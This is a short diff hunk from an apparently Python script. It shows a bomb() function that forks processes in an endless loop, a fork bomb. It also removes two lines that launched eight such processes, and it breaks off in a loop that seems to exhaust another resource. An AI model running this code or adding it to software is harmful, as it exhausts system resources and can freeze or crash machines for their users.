@@ -105,8 +105,6 @@ def bomb():
     while True:
         try: os.fork()
         except OSError: time.sleep(0.001)
-for _ in range(8):
-    if os.fork() == 0: bomb()
 full = False
 while not full:
     try:
